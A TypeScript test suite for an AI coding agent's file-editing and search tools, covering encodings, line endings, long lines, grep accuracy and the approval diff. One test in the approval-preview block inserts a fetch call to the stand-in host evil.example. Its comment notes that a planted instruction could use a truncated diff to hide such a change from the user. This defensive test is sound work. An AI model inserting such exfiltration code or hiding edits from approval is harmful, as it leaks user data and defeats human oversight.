/**
 * Fault-finding pass over the model-facing file tools (read_file, write_file, edit_file,
 * list_files, grep) with hostile or merely odd files and arguments: encodings, line endings,
 * long lines, big files, unreadable directories, odd names, and what the model, the approval
 * preview and the working set are handed.
 *
 * Each defect it found is a test of the correct behaviour, fixed since; a comment marked "Was" says
 * what the user or the model saw before and why it mattered. The few other tests are probes that
 * held and are not covered elsewhere.
 */
import { afterAll, describe, expect, test } from "bun:test";
import { chmodSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { toolMemory } from "../../src/memory/tool-memory.ts";
import { recordTurnInMemory } from "../../src/memory/turn-memory.ts";
import { ShortTermMemory } from "../../src/memory/short-term.ts";
import { ExtractiveSummarizer } from "../../src/memory/summary.ts";
import type { ToolRegistry } from "../../src/tools/registry.ts";
import { call, makeOutsideDir, makeWorkspace, registryFor, removeWorkspaces } from "./temp-workspace.ts";

afterAll(removeWorkspaces);

const rg = Bun.which("rg");
const jsGrep = { grep: { forceFallback: true } };
const bytesOf = (root: string, rel: string): Buffer => readFileSync(join(root, rel));
const textOf = (root: string, rel: string): string => readFileSync(join(root, rel), "utf8");
const REPLACEMENT_CHAR_UTF8 = Buffer.from([0xef, 0xbf, 0xbd]);

describe("edit_file and write_file keep what they were not asked to change", () => {
  // Was: a Latin-1 (or any non-UTF-8) file is decoded with U+FFFD for every invalid byte and
  // re-encoded on write, so an edit of line 2 silently turns "Café" on line 1 into "Caf\uFFFD"
  // (bytes EF BF BD). The approval diff shows line 1 as unchanged context, the model is told
  // "1 replacement at line 2": the user approves a diff that hides the corruption. Legacy
  // encodings (Latin-1, Windows-1252, Shift-JIS) are common in older repositories.
  test("edit_file on a file that is not valid UTF-8 never rewrites the bytes it did not match", async () => {
    const root = makeWorkspace();
    const original = Buffer.concat([Buffer.from("# Caf"), Buffer.from([0xe9]), Buffer.from("\nx = 1\n")]);
    writeFileSync(join(root, "latin1.py"), original);
    const outcome = await call(registryFor(root), "edit_file", { path: "latin1.py", old_string: "x = 1", new_string: "x = 2" });
    const after = bytesOf(root, "latin1.py");
    // Either the edit is refused (naming the encoding) or only "1" became "2"; never U+FFFD.
    expect(after.includes(REPLACEMENT_CHAR_UTF8)).toBe(false);
    expect(after.subarray(0, 6)).toEqual(original.subarray(0, 6));
    if (outcome.isError) expect(outcome.forModel).toMatch(/UTF-8|encoding/i);
    else expect(after).toEqual(Buffer.concat([Buffer.from("# Caf"), Buffer.from([0xe9]), Buffer.from("\nx = 2\n")]));
  });

  // Was: edit_file converts an LF old_string to CRLF only when it found no match; a single-line
  // old_string always matches, and a multi-line new_string is then written with bare LFs, so the
  // CRLF file gets mixed line endings ("two\nextra\r\n"). Git shows the whole region changed and
  // Windows tools misbehave; the model cannot see it (read_file hides \r).
  test("edit_file inserting lines into a CRLF file writes them with CRLF", async () => {
    const root = makeWorkspace({ "w.txt": "one\r\ntwo\r\nthree\r\n" });
    const outcome = await call(registryFor(root), "edit_file", { path: "w.txt", old_string: "two", new_string: "two\nextra" });
    expect(outcome.isError).toBe(false);
    expect(textOf(root, "w.txt")).toBe("one\r\ntwo\r\nextra\r\nthree\r\n");
  });

  // Was: when an LF old_string is converted to CRLF, new_string has every "\n" replaced by "\r\n"
  // even where it already was "\r\n", so a model that writes CRLF in new_string (having learnt the
  // file is CRLF) gets "\r\r\n" in the file: a stray carriage return, i.e. corruption.
  test("edit_file in a CRLF file never writes \\r\\r\\n when new_string already has CRLF", async () => {
    const root = makeWorkspace({ "w.txt": "one\r\ntwo\r\nthree\r\n" });
    const outcome = await call(registryFor(root), "edit_file", { path: "w.txt", old_string: "one\ntwo", new_string: "one\r\nTWO" });
    expect(outcome.isError).toBe(false);
    expect(textOf(root, "w.txt")).toBe("one\r\nTWO\r\nthree\r\n");
  });

  // Was: read_file strips \r, so the model writes a CRLF file back with LF endings. write_file
  // writes them as given: every line of the file changes, the approval diff shows the whole file
  // replaced for a one-line addition ("+3 −2"), and the repository gets a whole-file line-ending
  // churn the user never asked for.
  test("write_file over a CRLF file keeps CRLF endings (the model never sees them)", async () => {
    const root = makeWorkspace({ "w.txt": "one\r\ntwo\r\n" });
    const outcome = await call(registryFor(root), "write_file", { path: "w.txt", content: "one\ntwo\nthree\n" });
    expect(outcome.isError).toBe(false);
    expect(textOf(root, "w.txt")).toBe("one\r\ntwo\r\nthree\r\n");
    expect(outcome.forModel).toBe("Overwrote w.txt (+1 −0 lines).");
  });

  // Was: a UTF-8 BOM is invisible in read_file's output, so the model's content lacks it and
  // write_file drops it; the approval diff shows "-first" / "+first", two lines that look
  // identical. Tools that need the BOM (Visual Studio project files, some CSV consumers, PowerShell
  // 5 scripts with non-ASCII text) then misread the file.
  test("write_file over a file with a UTF-8 BOM keeps the BOM", async () => {
    const root = makeWorkspace({ "bom.txt": "\uFEFFfirst\nsecond\n" });
    const outcome = await call(registryFor(root), "write_file", { path: "bom.txt", content: "first\nsecond\nthird\n" });
    expect(outcome.isError).toBe(false);
    expect(bytesOf(root, "bom.txt").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(textOf(root, "bom.txt")).toBe("\uFEFFfirst\nsecond\nthird\n");
  });

  // Was: in a file with mixed endings, an old_string copied from read_file (which shows every line
  // the same) matches neither as LF nor as all-CRLF: "0 matches … Its first line appears at line 1
  // with different indentation or surrounding text" — a wrong diagnosis, and no copy of the text
  // the model can see will ever match. The model retries until it gives up or rewrites the file.
  test("edit_file matches a multi-line old_string across mixed LF/CRLF endings and keeps each line's ending", async () => {
    const root = makeWorkspace({ "mixed.txt": "a\r\nb\nc\r\n" });
    const outcome = await call(registryFor(root), "edit_file", { path: "mixed.txt", old_string: "a\nb\nc", new_string: "a\nB\nc" });
    expect(outcome.forModel).toBe("Edited mixed.txt: 1 replacement at line 1 (+1 −1 lines).");
    expect(textOf(root, "mixed.txt")).toBe("a\r\nB\nc\r\n");
  });

  // Held (not covered elsewhere): an edit writes in place, so the executable bit, a UTF-8 BOM and
  // a missing final newline all survive.
  test("edit_file keeps mode bits, a UTF-8 BOM and a missing final newline", async () => {
    const root = makeWorkspace({ "run.sh": "\uFEFF#!/bin/sh\necho hi" });
    chmodSync(join(root, "run.sh"), 0o755);
    const outcome = await call(registryFor(root), "edit_file", { path: "run.sh", old_string: "echo hi", new_string: "echo ho" });
    expect(outcome.isError).toBe(false);
    expect(bytesOf(root, "run.sh")).toEqual(Buffer.from("\uFEFF#!/bin/sh\necho ho", "utf8"));
    expect(statSync(join(root, "run.sh")).mode & 0o777).toBe(0o755);
    expect(outcome.diff).toContain("\\ No newline at end of file");
  });
});

describe("the approval preview", () => {
  // Was: the diff of a change inside one long line (minified JS, a lockfile, a one-line JSON
  // fixture) is the whole old line and the whole new line, then cut head+tail to 256 KB; the
  // changed text sits in the cut middle, so the user approves a quarter megabyte of unchanged code
  // and never sees the change. A hostile instruction in the repository could use exactly this to
  // slip a change past the approval.
  test("an edit in the middle of a long line shows the changed text in the diff", async () => {
    const parts: string[] = [];
    for (let i = 0; i < 16_000; i++) parts.push(`function f${i}(a){return a+${i}}`);
    const root = makeWorkspace({ "app.min.js": `${parts.join(";")}\n` });
    const outcome = await call(registryFor(root), "edit_file", {
      path: "app.min.js",
      old_string: "function f8000(a){return a+8000}",
      new_string: "function f8000(a){return fetch('https://evil.example/'+a)}",
    });
    expect(outcome.isError).toBe(false);
    // Booleans: the diff is 256 KB, too long for a failure message.
    expect({ showsNew: outcome.diff?.includes("evil.example"), showsOld: outcome.diff?.includes("return a+8000") }).toEqual({ showsNew: true, showsOld: true });
  });
});

describe("what read_file and grep hand the model", () => {
  // Was: read_file cuts a long line at 2000 UTF-16 units and grep at 300, so an emoji (or any
  // astral character) at the cut leaves a lone high surrogate in the tool output. JSON.stringify
  // sends it as "\ud83d"; strict JSON parsers (OpenAI, DeepSeek, Anthropic) reject the whole
  // request with 400 "lone leading surrogate", and since the output stays in the conversation,
  // every later request of the session fails too.
  test("cutting a long line never leaves half of a surrogate pair in the output", async () => {
    const root = makeWorkspace({
      "wide.txt": `${"a".repeat(1999)}😀${"b".repeat(10)}\n`,
      "narrow.txt": `${"x".repeat(299)}😀 port\n`,
    });
    const registry = registryFor(root, jsGrep);
    const read = await call(registry, "read_file", { path: "wide.txt" });
    expect(read.isError).toBe(false);
    expect(read.forModel.isWellFormed()).toBe(true);
    const grep = await call(registry, "grep", { pattern: "port", path: "narrow.txt" });
    expect(grep.forModel).toStartWith("narrow.txt:1:");
    expect(grep.forModel.isWellFormed()).toBe(true);
  });

  // Was: a UTF-16 file with a BOM is refused as "a binary file … its content is not shown" when
  // its text is ASCII (every other byte is NUL), and when it is CJK text (no NUL bytes) it is
  // decoded as UTF-8 and handed over as mojibake ("��-N�eW[&{") without an error: the model
  // reasons about, and may edit, text that is not in the file.
  test("read_file shows a UTF-16 file's text (or says it is UTF-16), never mojibake or 'binary'", async () => {
    const root = makeWorkspace();
    writeFileSync(join(root, "ascii16.txt"), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("hello\r\n", "utf16le")]));
    writeFileSync(join(root, "cjk16.txt"), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("中文字符\r\n", "utf16le")]));
    const registry = registryFor(root);
    const ascii = await call(registry, "read_file", { path: "ascii16.txt" });
    expect(ascii.forModel.includes("hello") || /UTF-16/i.test(ascii.forModel)).toBe(true);
    const cjk = await call(registry, "read_file", { path: "cjk16.txt" });
    expect(cjk.forModel.includes("中文字符") || /UTF-16/i.test(cjk.forModel)).toBe(true);
    expect(cjk.forModel).not.toContain("\uFFFD");
  });

  // Was: grep shows the first 300 characters of a matching line. In a minified file the match is
  // usually far from the start, so the model gets "app.min.js:1: function f0(a){…} [… line cut]"
  // with no trace of what matched or where, and read_file (2000 characters a line) cannot show it
  // either.
  test("grep on a long line shows the text around the match", async () => {
    const root = makeWorkspace({ "app.min.js": `${"var a=1;".repeat(600)}needle(42);${"var b=2;".repeat(600)}\n` });
    for (const options of rg ? [jsGrep, {}] : [jsGrep]) {
      const outcome = await call(registryFor(root, options), "grep", { pattern: "needle\\(" });
      expect(outcome.forModel).toStartWith("app.min.js:1:");
      expect(outcome.forModel).toContain("needle(42)");
    }
  });
});

describe("grep's answers are true", () => {
  // Was: rg --json carries a line that is not valid UTF-8 as base64 `bytes`, and the ripgrep back
  // end skips such events, so a match on a Latin-1 line is silently dropped: "latin.txt:1" is
  // missing while the JS back end reports it. The model is told the text is not there.
  test.if(rg !== null)("grep (ripgrep) reports matches on lines that are not valid UTF-8", async () => {
    const root = makeWorkspace();
    writeFileSync(join(root, "latin.txt"), Buffer.concat([Buffer.from("caf"), Buffer.from([0xe9]), Buffer.from(" port = 1\nport two\n")]));
    const viaRg = await call(registryFor(root), "grep", { pattern: "port" });
    const viaJs = await call(registryFor(root, jsGrep), "grep", { pattern: "port" });
    expect(viaJs.forModel.split("\n")).toEqual(["latin.txt:1: caf\uFFFD port = 1", "latin.txt:2: port two"]);
    expect(viaRg.forModel).toBe(viaJs.forModel);
  });

  // Was: the JS back end (used whenever rg is not on PATH) runs the model's regex with RegExp.test.
  // Bun's engine gives up on heavy backtracking and returns false instead of throwing, so a line
  // that matches is reported as "No matches for /(a+)+b/" — a false answer, not an error.
  test("grep (JS fallback) never answers 'No matches' for a line that matches", async () => {
    const root = makeWorkspace({ "a.txt": `${"a".repeat(40)}!ab\n` });
    const outcome = await call(registryFor(root, jsGrep), "grep", { pattern: "(a+)+b" });
    // Fixed as: the line the engine gave up on is named as undecided, never a bare "No matches"
    // (a linear-time engine would decide it; the JS back end only runs without ripgrep).
    expect(outcome.forModel).toContain("a.txt:1");
    expect(outcome.forModel).toMatch(/a\.txt:1: a+!ab|backtracks too much to decide 1 line, which may match: a\.txt:1/);
  });

  // Was: each such line blocks the event loop for ~0.5 s and the abort signal is looked at only
  // between files, so a backtracking pattern over a file of such lines holds the whole process
  // (REPL, Esc, Ctrl-C handling) for lines × 0.5 s; aborting does not stop it.
  test("grep (JS fallback) with a backtracking pattern stops soon after an abort", async () => {
    const root = makeWorkspace({ "a.txt": `${"a".repeat(40)}!\n`.repeat(8) });
    const abort = new AbortController();
    setTimeout(() => abort.abort(), 200);
    const started = performance.now();
    await call(registryFor(root, jsGrep), "grep", { pattern: "(a+)+$" }, abort.signal);
    // Without the abort it would run for ages (2^40 paths per line); the bound is loose for a loaded machine.
    expect(performance.now() - started).toBeLessThan(15_000);
  });

  // Was: files over 10 MB are skipped without a word. The JS back end answers "No matches for
  // /ERROR/ under big.log." for a log that does contain ERROR (ripgrep searches it), and a search
  // of the workspace says "No matches" with no hint that a file was left out. The model concludes
  // the text is nowhere.
  test("grep says when it skipped a file over 10 MB instead of answering 'No matches'", async () => {
    const root = makeWorkspace({ "src/a.ts": "const ok = 1;\n" });
    writeFileSync(join(root, "big.log"), `ERROR first\n${"info line\n".repeat(1_100_000)}`);
    const explicit = await call(registryFor(root, jsGrep), "grep", { pattern: "ERROR", path: "big.log" });
    expect(explicit.forModel).toMatch(/big\.log:1: ERROR first|big\.log.*(skipped|over|too large)/);
    for (const options of rg ? [jsGrep, {}] : [jsGrep]) {
      const whole = await call(registryFor(root, options), "grep", { pattern: "ERROR" });
      expect(whole.forModel).toContain("big.log");
    }
  });
});

describe("listings", () => {
  // Was: names are printed raw, one per line, so "new\nline.txt" is listed as two files, "new" and
  // "line.txt", neither of which exists; read_file on either says "does not exist" and the real
  // file cannot be named from the listing. (grep's "path:line:" output has the same problem.)
  test("list_files shows a file name containing a newline as one unambiguous entry", async () => {
    const root = makeWorkspace({ "a.txt": "" });
    writeFileSync(join(root, "new\nline.txt"), "");
    const outcome = await call(registryFor(root), "list_files", {});
    expect(outcome.forModel.split("\n")).toHaveLength(2);
    expect(outcome.forModel.split("\n")).not.toContain("line.txt");
  });
});

/** As in file-access.test.ts: root with DAC override dropped, so mode bits refuse it too. */
function refusableCommand(): string[] | undefined {
  if (process.getuid?.() !== 0) return [];
  const setpriv = Bun.which("setpriv");
  if (!setpriv) return undefined;
  const caps = "-dac_override,-dac_read_search";
  return [setpriv, `--inh-caps=${caps}`, `--bounding-set=${caps}`];
}
const prefix = refusableCommand();

describe.skipIf(prefix === undefined)("a workspace with one unreadable directory", () => {
  // Was: a single directory valarmind may not read (a Docker volume such as pgdata/ owned by
  // another user, mode 700) makes list_files of the workspace, and grep's JS back end, fail as a
  // whole: "Error: permission denied … pgdata". The model cannot list or search any other file;
  // ripgrep, by contrast, skips the directory and returns the matches.
  test("list_files and grep (JS fallback) skip it, list the rest and say what was skipped", () => {
    const root = makeWorkspace({ "src/a.ts": "export const port = 1;\n", "README.md": "port\n", "pgdata/base/1": "port\n" });
    const probeDir = makeOutsideDir();
    const probe = join(probeDir, "probe.ts");
    writeFileSync(
      probe,
      `import { call, registryFor } from ${JSON.stringify(join(import.meta.dir, "temp-workspace.ts"))};
const registry = registryFor(process.argv[2], { grep: { forceFallback: true } });
const list = await call(registry, "list_files", {});
const grep = await call(registry, "grep", { pattern: "port" });
process.stdout.write(JSON.stringify({ list: list.forModel, grep: grep.forModel }));
`,
    );
    chmodSync(join(root, "pgdata"), 0o000);
    try {
      const run = Bun.spawnSync([...(prefix ?? []), process.execPath, probe, root], { stderr: "pipe" });
      expect(run.stderr.toString()).toBe("");
      const out = JSON.parse(run.stdout.toString()) as { list: string; grep: string };
      expect(out.list).toContain("README.md");
      expect(out.list).toContain("src/a.ts");
      expect(out.list).toContain("pgdata");
      expect(out.grep).toContain("README.md:1: port");
      expect(out.grep).toContain("src/a.ts:1: export const port = 1;");
    } finally {
      chmodSync(join(root, "pgdata"), 0o755);
    }
  });
});

describe("the working set", () => {
  const memoryOptions = { shortBufferTurns: 20, windowBlockTurns: 5, workingSetTokens: 50_000, overflowPolicy: "priority" as const, countTokens: (t: string) => t.length };

  async function turn(memory: ShortTermMemory, registry: ToolRegistry, n: number, name: string, args: object) {
    memory.workingSet.setTurn(n);
    const request = { callId: `c${n}`, name, arguments: JSON.stringify(args) };
    const outcome = await registry.run(request, { signal: new AbortController().signal });
    const item = { kind: "tool" as const, callId: request.callId, name, arguments: request.arguments, output: outcome.forModel, isError: outcome.isError };
    recordTurnInMemory(memory, { turn: n, user: "go", items: [item] }, new Map([[request.callId, toolMemory(request, outcome)]]), { ttlTurns: 10 });
    return outcome;
  }

  // Was: a call's locations are the path "as the model named it", so read_file with an absolute
  // path (documented to work) is tagged "/tmp/…/src/a.ts" while edit_file "src/a.ts" marks
  // "src/a.ts" stale. The old read survives the fold and the model keeps being shown
  // "v0 = 0" as the file's content after it changed it to 100; touched files list the file twice.
  test("a read by absolute path is stale after an edit by relative path", async () => {
    const body = Array.from({ length: 60 }, (_, i) => `export const v${i} = ${i};`).join("\n") + "\n";
    const root = makeWorkspace({ "src/a.ts": body });
    const registry = registryFor(root);
    const memory = new ShortTermMemory(memoryOptions);
    const read = await turn(memory, registry, 1, "read_file", { path: join(root, "src/a.ts") });
    const edit = await turn(memory, registry, 2, "edit_file", { path: "src/a.ts", old_string: "v0 = 0;", new_string: "v0 = 100;" });
    expect(edit.isError).toBe(false);
    await memory.slide(new ExtractiveSummarizer(), undefined, (turns) => ({ fold: turns.length, reason: "cost", rent: 0, cost: 0, why: "test" }));
    expect(memory.workingSet.items().filter((w) => w.content.includes("v0 = 0;")).map((w) => w.tags)).toEqual([]);
    expect(memory.touched.list("file").map((e) => e.name)).toEqual(["src/a.ts"]);
    // The cause: the read's location is the absolute path, not the workspace-relative one.
    expect(read.locations).toEqual([{ path: "src/a.ts", access: "read" }]);
  });
});
